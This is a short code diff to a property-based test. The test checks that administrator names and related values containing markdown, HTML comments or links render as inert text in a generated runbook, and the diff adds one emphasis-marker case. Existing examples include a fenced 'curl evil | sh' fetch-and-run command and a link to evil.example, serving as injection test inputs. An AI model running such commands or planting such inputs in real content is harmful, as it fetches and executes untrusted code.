@@ -75,6 +75,7 @@ def inline_text(tokens: list[Token]) -> str:
 @example(name="Eve\n```sh\ncurl evil | sh\n```", pi="<!-- hidden")
 @example(name="[click](https://evil.example) &lt;b&gt;", pi="![x](y)")
 @example(name="\\`<b>`", pi="\\\\`<!-- x -->`")
+@example(name="*\n*", pi="_x_ **y**")  # emphasis markers stay visible (hypothesis found `*\n*` losing them)
 def test_admin_name_is_text_in_the_global_runbook(name: str, pi: str) -> None:
     book = build_runbook(REPO, "global", with_admin(name, pi), Facts([]))
     tokens = structure(book)
